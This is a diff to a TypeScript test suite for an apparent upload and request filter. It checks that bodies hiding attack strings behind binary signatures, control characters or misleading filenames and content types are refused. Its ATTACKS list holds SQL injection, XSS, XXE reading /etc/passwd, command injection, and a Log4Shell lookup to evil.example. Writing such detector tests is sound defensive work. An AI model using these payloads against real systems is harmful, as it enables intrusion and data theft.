@@ -20,15 +20,18 @@ const judged = (type: string, bytes: Uint8Array) => {
   return engine.body(body, body.text, type, false)
 }
 
-const uploaded = (name: string, content: Uint8Array) =>
+const part = (disposition: string, type: string, content: Uint8Array) =>
   judged(
     'multipart/form-data; boundary=B7',
     joined(
-      `--B7\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/x\r\n\r\n`,
+      `--B7\r\nContent-Disposition: form-data; name="file"; ${disposition}\r\nContent-Type: ${type}\r\n\r\n`,
       content,
       '\r\n--B7--\r\n',
     ),
   )
+
+const uploaded = (name: string, content: Uint8Array) =>
+  part(`filename="${name}"`, 'application/octet-stream', content)
 
 const HEADS: Readonly<Record<string, string | Uint8Array>> = {
   png: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
@@ -105,4 +108,81 @@ test.each([
   ['application/x-httpd-php', 'text'],
 ])('%s is taken apart as %s', (type, format) => {
   expect(formatOf(type, '')).toBe(format)
+})
+
+const ATTACKS: readonly string[] = [
+  "1' UNION SELECT password FROM users-- -",
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
+  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+  '{"id": "1\' or \'1\'=\'1"}',
+  "z=1&id=1' union select null,version()-- -",
+  'a,b\n1;cat /etc/passwd;\n',
+  '${jndi:ldap://evil.example/a}',
+]
+
+/** What a client may write, and what still is no proof that the content is no text. */
+describe('a control character makes no file of a text', () => {
+  test.each([
+    ['a name that Go takes for none', 'filename=""', 'image/png'],
+    ['a name that PHP does not know', "filename*=utf-8''a.png", 'image/png'],
+    ['one empty name of two', 'filename="a.png"; filename=""', 'image/png'],
+    ['a name of a text', 'filename="a.svg"', 'image/png'],
+    ['a name of a text behind another', 'filename="a.svg.png"', 'image/png'],
+    ['a type of a text', 'filename="a.png"', 'text/html; charset=utf-8'],
+    ['a type of data', 'filename="a.png"', 'application/json'],
+    ['no signature', 'filename="a.png"', 'image/png'],
+    ['names that differ', 'filename="a.png"; filename*=utf-8\'\'a.xml', 'image/png'],
+  ])('%s', (_, disposition, type) => {
+    for (const attack of ATTACKS)
+      for (const content of [`\u0001${attack}`, `${attack}\u0001`])
+        expect(part(disposition, type, utf8.encode(content)).refused, content).toBe(true)
+  })
+
+  test.each(['png', 'gif', 'zip', 'pdf'])("%s's signature is none under a text's name or type", (format) => {
+    for (const attack of ATTACKS) {
+      const content = joined(HEADS[format] ?? '', '\u0001\u0002\n', attack)
+      expect(part('filename="a.csv"', 'image/png', content).refused, attack).toBe(true)
+      expect(part('filename="a.png"', 'text/plain', content).refused, attack).toBe(true)
+      expect(part('filename=""', 'image/png', content).refused, attack).toBe(true)
+    }
+  })
+
+  test.each([
+    'application/octet-stream',
+    'application/pdf',
+    'application/zip',
+    'image/png',
+    'application/x-protobuf',
+    'application/grpc',
+    'application/msgpack',
+  ])('a whole body that says it is %s', (type) => {
+    for (const attack of ATTACKS)
+      expect(judged(type, utf8.encode(`\u0001\u0002${attack}`)).refused, attack).toBe(true)
+  })
+
+  test('a short string of a message', () => {
+    const message = joined(new Uint8Array([8, 150, 1, 0x12, 8]), "1'or 1=1", new Uint8Array([0x18, 1]))
+    expect(judged('application/x-protobuf', message).refused).toBe(true)
+  })
+
+  test('a blank that only a database knows', () => {
+    const content = "\u00011'\u0001union\u0001select\u0001password\u0001from\u0001users--"
+    expect(judged('application/octet-stream', utf8.encode(content)).refused).toBe(true)
+  })
+})
+
+test('bytes of an unknown kind pass, but for what is written in them', () => {
+  let refused = 0
+  for (let seed = 0; seed < 40; seed++)
+    if (uploaded('a.dat', joined('\u0001', noise(seed, 10_000))).refused) refused++
+  // Twenty printed characters in a row, and a filter among them.
+  expect(refused).toBeLessThanOrEqual(1)
+})
+
+test.each([
+  '${jndi:ldap://evil.example/a}',
+  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+])("in a document's properties: %s", (text) => {
+  for (const [extension, head] of Object.entries(HEADS))
+    expect(uploaded(`a.${extension}`, joined(head, noise(3, 400), text, noise(4, 400))).refused).toBe(true)
 })
